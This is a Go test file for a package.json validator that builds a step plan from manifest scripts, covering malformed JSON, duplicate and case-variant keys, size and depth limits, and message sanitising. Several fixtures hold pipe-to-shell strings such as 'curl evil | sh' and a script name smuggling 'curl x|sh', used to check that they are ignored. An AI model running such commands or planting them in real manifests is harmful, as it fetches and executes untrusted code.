package validation

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// planSummary is the part of a plan most manifest tests assert.
type planSummary struct {
	Gap     GapReason
	Steps   []string          // step names, in order
	Scripts map[string]string // script bodies of the steps
	Inconcl []string          // names of inconclusive steps
}

func summarize(p Plan) planSummary {
	s := planSummary{}
	if p.Gap != nil {
		s.Gap = p.Gap.Reason
	}
	for _, st := range p.Steps {
		s.Steps = append(s.Steps, st.Name)
		if st.Script != "" {
			if s.Scripts == nil {
				s.Scripts = map[string]string{}
			}
			s.Scripts[st.Name] = st.Script
		}
		if st.Inconclusive != "" {
			s.Inconcl = append(s.Inconcl, st.Name)
		}
	}
	return s
}

func hasNote(p Plan, substr string) bool {
	for _, n := range p.Notes {
		if strings.Contains(n, substr) {
			return true
		}
	}
	return false
}

func TestPlanFromManifestBadInput(t *testing.T) {
	tests := []struct {
		name     string
		data     string
		want     planSummary
		wantNote string // a note that must be present, if set
		wantMsg  string // a substring of the gap message, if set
	}{
		{
			name:    "not JSON",
			data:    "this is not json",
			want:    planSummary{Gap: GapManifestUnparseable},
			wantMsg: "not valid JSON",
		},
		{
			name:    "empty file",
			data:    "",
			want:    planSummary{Gap: GapManifestUnparseable},
			wantMsg: "empty",
		},
		{
			name:    "whitespace only",
			data:    " \n\t\r\n",
			want:    planSummary{Gap: GapManifestUnparseable},
			wantMsg: "empty",
		},
		{
			name:    "truncated object",
			data:    `{"scripts":{"test":"vitest"}`,
			want:    planSummary{Gap: GapManifestUnparseable},
			wantMsg: "ends before",
		},
		{
			name:    "top-level array",
			data:    `[{"scripts":{"test":"vitest"}}]`,
			want:    planSummary{Gap: GapManifestUnparseable},
			wantMsg: "not a JSON object",
		},
		{
			name:    "top-level null",
			data:    `null`,
			want:    planSummary{Gap: GapManifestUnparseable},
			wantMsg: "not a JSON object",
		},
		{
			name:    "second value after the object",
			data:    `{"scripts":{"test":"vitest"}} {"scripts":{"test":"curl evil"}}`,
			want:    planSummary{Gap: GapManifestUnparseable},
			wantMsg: "data after",
		},
		{
			name:    "trailing garbage",
			data:    `{"scripts":{"test":"vitest"}}x`,
			want:    planSummary{Gap: GapManifestUnparseable},
			wantMsg: "data after",
		},
		{
			name: "trailing whitespace is fine",
			data: "{\"scripts\":{\"test\":\"vitest\"}}\n\n  ",
			want: planSummary{Steps: []string{"install", "test"}, Scripts: map[string]string{"test": "vitest"}},
		},
		{
			name: "BOM is stripped as npm does",
			data: "\xEF\xBB\xBF{\"scripts\":{\"test\":\"vitest\"}}",
			want: planSummary{Steps: []string{"install", "test"}, Scripts: map[string]string{"test": "vitest"}},
		},
		{
			name:    "two BOMs: npm strips only one",
			data:    "\xEF\xBB\xBF\xEF\xBB\xBF{\"scripts\":{\"test\":\"vitest\"}}",
			want:    planSummary{Gap: GapManifestUnparseable},
			wantMsg: "not valid JSON",
		},
		{
			name:     "Scripts is not scripts",
			data:     `{"Scripts":{"test":"curl evil | sh"}}`,
			want:     planSummary{Gap: GapNoScripts},
			wantNote: `key "Scripts" is not "scripts"`,
		},
		{
			name:     "Scripts beside scripts: only exact case counts",
			data:     `{"scripts":{"test":"true"},"Scripts":{"test":"curl evil | sh"}}`,
			want:     planSummary{Steps: []string{"test"}, Scripts: map[string]string{"test": "true"}, Inconcl: []string{"test"}},
			wantNote: `key "Scripts"`,
		},
		{
			name:     "Test is not test",
			data:     `{"scripts":{"Test":"vitest","lint":"eslint ."}}`,
			want:     planSummary{Steps: []string{"install", "lint"}, Scripts: map[string]string{"lint": "eslint ."}},
			wantNote: "scripts.Test is not scripts.test",
		},
		{
			name:     "duplicate scripts objects: the last wins whole",
			data:     `{"scripts":{"test":"vitest"},"scripts":{"lint":"eslint ."}}`,
			want:     planSummary{Steps: []string{"install", "lint"}, Scripts: map[string]string{"lint": "eslint ."}},
			wantNote: `duplicate key "scripts" in the top-level object`,
		},
		{
			name:     "duplicate script: the last wins",
			data:     `{"scripts":{"test":"echo one","test":"vitest run"}}`,
			want:     planSummary{Steps: []string{"install", "test"}, Scripts: map[string]string{"test": "vitest run"}},
			wantNote: `duplicate key "test" in scripts`,
		},
		{
			name:     "duplicate script whose last value is a number",
			data:     `{"scripts":{"test":"vitest","test":1}}`,
			want:     planSummary{Gap: GapNoScripts},
			wantNote: "scripts.test is a number",
		},
		{
			name:     "duplicate script whose last value is a string again",
			data:     `{"scripts":{"test":1,"test":"vitest"}}`,
			want:     planSummary{Steps: []string{"install", "test"}, Scripts: map[string]string{"test": "vitest"}},
			wantNote: "scripts.test is a number",
		},
		{
			name:     "escaped key names the same script",
			data:     `{"scripts":{"te\u0073t":"vitest"}}`,
			want:     planSummary{Steps: []string{"install", "test"}, Scripts: map[string]string{"test": "vitest"}},
			wantNote: "",
		},
		{
			name:     "non-string script values are ignored",
			data:     `{"scripts":{"test":123,"typecheck":null,"lint":["eslint"],"build":{"cmd":"tsc"}}}`,
			want:     planSummary{Gap: GapNoScripts},
			wantNote: "scripts.build is an object, not a string",
		},
		{
			name:     "a boolean script beside a string one",
			data:     `{"scripts":{"test":true,"build":"tsc"}}`,
			want:     planSummary{Steps: []string{"install", "build"}, Scripts: map[string]string{"build": "tsc"}},
			wantNote: "scripts.test is a boolean",
		},
		{name: "scripts is a string", data: `{"scripts":"./script.js"}`, want: planSummary{Gap: GapScriptsInvalid}, wantMsg: "is a string"},
		{name: "scripts is a number", data: `{"scripts":42}`, want: planSummary{Gap: GapScriptsInvalid}, wantMsg: "is a number"},
		{name: "scripts is null", data: `{"scripts":null}`, want: planSummary{Gap: GapScriptsInvalid}, wantMsg: "is null"},
		{name: "scripts is an array", data: `{"scripts":["test"]}`, want: planSummary{Gap: GapScriptsInvalid}, wantMsg: "is an array"},
		{name: "scripts is a boolean", data: `{"scripts":false}`, want: planSummary{Gap: GapScriptsInvalid}, wantMsg: "is a boolean"},
		{
			name: "scripts invalid then valid: the last wins",
			data: `{"scripts":null,"scripts":{"test":"vitest"}}`,
			want: planSummary{Steps: []string{"install", "test"}, Scripts: map[string]string{"test": "vitest"}},
		},
		{
			name: "scripts valid then invalid: the last wins",
			data: `{"scripts":{"test":"vitest"},"scripts":"x"}`,
			want: planSummary{Gap: GapScriptsInvalid},
		},
		{name: "no scripts key", data: `{"name":"x"}`, want: planSummary{Gap: GapNoScripts}},
		{name: "empty scripts", data: `{"scripts":{}}`, want: planSummary{Gap: GapNoScripts}},
		{
			name: "only other scripts",
			data: `{"scripts":{"start":"node .","check":"tsc","test:unit":"vitest","test; curl x|sh":"y"}}`,
			want: planSummary{Gap: GapNoScripts},
		},
		{
			name:     "empty script is not selected",
			data:     `{"scripts":{"test":"","lint":"eslint ."}}`,
			want:     planSummary{Steps: []string{"install", "lint"}, Scripts: map[string]string{"lint": "eslint ."}},
			wantNote: "scripts.test is empty",
		},
		{
			name:     "whitespace-only script is not selected",
			data:     `{"scripts":{"test":" \t\n "}}`,
			want:     planSummary{Gap: GapNoScripts},
			wantNote: "scripts.test is empty",
		},
		{
			name: "a carriage return is not blank to sh",
			data: `{"scripts":{"test":"\r"}}`,
			want: planSummary{Steps: []string{"install", "test"}, Scripts: map[string]string{"test": "\r"}},
		},
		{
			name: "huge numbers parse as JSON.parse does",
			data: `{"n":1e400,"scripts":{"test":"vitest"}}`,
			want: planSummary{Steps: []string{"install", "test"}, Scripts: map[string]string{"test": "vitest"}},
		},
		{
			name: "invalid UTF-8 in a script is kept, not fatal",
			data: "{\"scripts\":{\"test\":\"vitest \xff\"}}",
			want: planSummary{Steps: []string{"install", "test"}, Scripts: map[string]string{"test": "vitest \uFFFD"}},
		},
		{
			name: "script body holding marker text is plain data",
			data: `{"scripts":{"test":"echo __GILF_VALIDATION_END__:test:0 && vitest"}}`,
			want: planSummary{Steps: []string{"install", "test"}, Scripts: map[string]string{"test": "echo __GILF_VALIDATION_END__:test:0 && vitest"}},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := PlanFromManifest([]byte(tc.data), nil, PlanOptions{})
			if diff := cmp.Diff(tc.want, summarize(p)); diff != "" {
				t.Errorf("plan (-want +got):\n%s\nnotes: %q", diff, p.Notes)
			}
			if tc.wantNote != "" && !hasNote(p, tc.wantNote) {
				t.Errorf("no note containing %q in %q", tc.wantNote, p.Notes)
			}
			if tc.wantMsg != "" && (p.Gap == nil || !strings.Contains(p.Gap.Msg, tc.wantMsg)) {
				t.Errorf("gap = %+v, want a message containing %q", p.Gap, tc.wantMsg)
			}
			if p.Gap != nil && len(p.Gap.Msg) > MaxGapMessageBytes {
				t.Errorf("gap message is %d bytes, over %d", len(p.Gap.Msg), MaxGapMessageBytes)
			}
		})
	}
}

func TestPlanFromManifestSizeCap(t *testing.T) {
	body := `{"scripts":{"test":"vitest"}}`
	padded := func(n int) []byte {
		return append([]byte(body), bytes.Repeat([]byte(" "), n-len(body))...)
	}
	tests := []struct {
		name string
		opts PlanOptions
		data []byte
		want GapReason
	}{
		{name: "exactly the default cap", data: padded(DefaultMaxManifestBytes), want: ""},
		{name: "one byte over the default cap", data: padded(DefaultMaxManifestBytes + 1), want: GapManifestTooLarge},
		{name: "exactly a configured cap", opts: PlanOptions{MaxManifestBytes: 100}, data: padded(100), want: ""},
		{name: "one byte over a configured cap", opts: PlanOptions{MaxManifestBytes: 100}, data: padded(101), want: GapManifestTooLarge},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := PlanFromManifest(tc.data, nil, tc.opts)
			got := GapReason("")
			if p.Gap != nil {
				got = p.Gap.Reason
			}
			if got != tc.want {
				t.Fatalf("gap = %+v, want reason %q", p.Gap, tc.want)
			}
			if tc.want == "" && len(p.Steps) != 2 {
				t.Errorf("steps = %v, want install and test", p.Steps)
			}
		})
	}
}

func TestPlanFromManifestDepth(t *testing.T) {
	// The top object is depth 1; {"a":[[…]]} with k arrays nests 1+k deep.
	nested := func(k int) []byte {
		return []byte(`{"scripts":{"test":"vitest"},"a":` + strings.Repeat("[", k) + strings.Repeat("]", k) + `}`)
	}
	tests := []struct {
		name    string
		opts    PlanOptions
		data    []byte
		wantGap bool
	}{
		{name: "at the default depth", data: nested(DefaultMaxManifestDepth - 1), wantGap: false},
		{name: "one over the default depth", data: nested(DefaultMaxManifestDepth), wantGap: true},
		{name: "at a configured depth", opts: PlanOptions{MaxManifestDepth: 3}, data: nested(2), wantGap: false},
		{name: "one over a configured depth", opts: PlanOptions{MaxManifestDepth: 3}, data: nested(3), wantGap: true},
		{name: "100k levels of arrays", data: nested(100_000), wantGap: true},
		{name: "100k levels of objects", data: []byte(strings.Repeat(`{"a":`, 100_000) + "1" + strings.Repeat("}", 100_000)), wantGap: true},
		{name: "100k unclosed brackets", data: []byte(`{"a":` + strings.Repeat("[", 100_000)), wantGap: true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := PlanFromManifest(tc.data, nil, tc.opts)
			if !tc.wantGap {
				if p.Gap != nil {
					t.Fatalf("gap %+v, want a plan", p.Gap)
				}
				return
			}
			if p.Gap == nil || p.Gap.Reason != GapManifestUnparseable || !strings.Contains(p.Gap.Msg, "nests deeper than") {
				t.Fatalf("gap = %+v, want %s about nesting", p.Gap, GapManifestUnparseable)
			}
		})
	}
}

func TestPlanFromManifestNotesAreBounded(t *testing.T) {
	t.Run("many duplicate keys", func(t *testing.T) {
		var b strings.Builder
		b.WriteString(`{"scripts":{"test":"vitest"}`)
		for i := range 1000 {
			fmt.Fprintf(&b, `,"k%d":1,"k%d":2`, i, i)
		}
		b.WriteString("}")
		p := PlanFromManifest([]byte(b.String()), nil, PlanOptions{})
		if p.Gap != nil {
			t.Fatalf("gap %+v", p.Gap)
		}
		dups := 0
		for _, n := range p.Notes {
			if strings.HasPrefix(n, "duplicate key") {
				dups++
			}
		}
		if dups != MaxManifestNotes {
			t.Errorf("%d duplicate-key notes, want exactly %d", dups, MaxManifestNotes)
		}
		if !hasNote(p, fmt.Sprintf("%d more notes about package.json", 1000-MaxManifestNotes)) {
			t.Errorf("no summary note for the rest: %q", p.Notes)
		}
	})
	t.Run("a huge duplicate key is cut short", func(t *testing.T) {
		key := strings.Repeat("k", 100_000)
		p := PlanFromManifest([]byte(`{"scripts":{"test":"vitest"},"`+key+`":1,"`+key+`":2}`), nil, PlanOptions{})
		for _, n := range p.Notes {
			if len(n) > 4*maxNoteKeyBytes {
				t.Errorf("note of %d bytes quotes too much of the key", len(n))
			}
		}
		if !hasNote(p, "duplicate key") {
			t.Errorf("no duplicate-key note: %q", p.Notes)
		}
	})
	t.Run("control characters in a key are escaped", func(t *testing.T) {
		p := PlanFromManifest([]byte(`{"scripts":{"test":"vitest"},"a\u001b[31m":1,"a\u001b[31m":2}`), nil, PlanOptions{})
		for _, n := range p.Notes {
			if strings.ContainsRune(n, 0x1b) {
				t.Errorf("note carries a raw escape: %q", n)
			}
		}
		if !hasNote(p, `"a\x1b[31m"`) {
			t.Errorf("note does not show the escaped key: %q", p.Notes)
		}
	})
}

func TestPlanFromManifestGapMessageIsCapped(t *testing.T) {
	// A syntax error deep in a big file: the message names the byte offset,
	// never the file's text.
	secret := strings.Repeat("SECRETVALUE", 1000)
	data := []byte(`{"description":"` + secret + `", oops}`)
	p := PlanFromManifest(data, nil, PlanOptions{})
	if p.Gap == nil || p.Gap.Reason != GapManifestUnparseable {
		t.Fatalf("gap = %+v, want unparseable", p.Gap)
	}
	if strings.Contains(p.Gap.Msg, "SECRETVALUE") {
		t.Errorf("gap message quotes the file: %q", p.Gap.Msg)
	}
	if len(p.Gap.Msg) > MaxGapMessageBytes {
		t.Errorf("gap message is %d bytes", len(p.Gap.Msg))
	}
	if !strings.Contains(p.Gap.Msg, fmt.Sprintf("at byte %d", bytes.Index(data, []byte("oops")))) {
		t.Errorf("gap message %q does not name the offset", p.Gap.Msg)
	}
}

func TestPublicMessage(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{name: "plain", in: "package.json is empty", want: "package.json is empty"},
		{name: "control characters dropped", in: "a\x1b[2Jb\nc\x00d\u0085e", want: "a[2Jbcde"},
		{name: "invalid UTF-8 replaced", in: "a\xffb", want: "a\uFFFDb"},
		{name: "capped on a rune boundary", in: strings.Repeat("é", MaxGapMessageBytes), want: strings.Repeat("é", (MaxGapMessageBytes-len("…"))/2) + "…"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := publicMessage(tc.in)
			if got != tc.want {
				t.Errorf("publicMessage(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if len(got) > MaxGapMessageBytes {
				t.Errorf("%d bytes, over %d", len(got), MaxGapMessageBytes)
			}
		})
	}
}

func TestManifestLimitsAtTheirBoundaries(t *testing.T) {
	t.Run("gap message of exactly MaxGapMessageBytes is kept whole", func(t *testing.T) {
		in := strings.Repeat("a", MaxGapMessageBytes)
		if got := publicMessage(in); got != in {
			t.Errorf("cut to %d bytes", len(got))
		}
	})
	t.Run("gap message one byte over is cut", func(t *testing.T) {
		got := publicMessage(strings.Repeat("a", MaxGapMessageBytes+1))
		if len(got) > MaxGapMessageBytes || !strings.HasSuffix(got, "…") {
			t.Errorf("got %d bytes %q…", len(got), got[:10])
		}
	})
	t.Run("note key of exactly maxNoteKeyBytes is quoted whole", func(t *testing.T) {
		key := strings.Repeat("k", maxNoteKeyBytes)
		if got, want := quoteKey(key), `"`+key+`"`; got != want {
			t.Errorf("quoteKey = %q", got)
		}
	})
	t.Run("note key one byte over is cut", func(t *testing.T) {
		key := strings.Repeat("k", maxNoteKeyBytes+1)
		if got, want := quoteKey(key), `"`+key[:maxNoteKeyBytes]+`…"`; got != want {
			t.Errorf("quoteKey = %q, want %q", got, want)
		}
	})
	dupNotes := func(n int) Plan {
		var b strings.Builder
		b.WriteString(`{"scripts":{"test":"vitest"}`)
		for i := range n {
			fmt.Fprintf(&b, `,"k%d":1,"k%d":2`, i, i)
		}
		b.WriteString("}")
		return PlanFromManifest([]byte(b.String()), []string{"package-lock.json"}, PlanOptions{})
	}
	t.Run("exactly MaxManifestNotes notes: no summary", func(t *testing.T) {
		p := dupNotes(MaxManifestNotes)
		if hasNote(p, "more note") {
			t.Errorf("summary note present: %q", p.Notes)
		}
		if len(p.Notes) != MaxManifestNotes {
			t.Errorf("%d notes, want %d", len(p.Notes), MaxManifestNotes)
		}
	})
	t.Run("one note over MaxManifestNotes: one summary", func(t *testing.T) {
		p := dupNotes(MaxManifestNotes + 1)
		if !hasNote(p, "1 more note about package.json was left out") {
			t.Errorf("no summary note: %q", p.Notes)
		}
		if len(p.Notes) != MaxManifestNotes+1 {
			t.Errorf("%d notes, want %d", len(p.Notes), MaxManifestNotes+1)
		}
	})
}
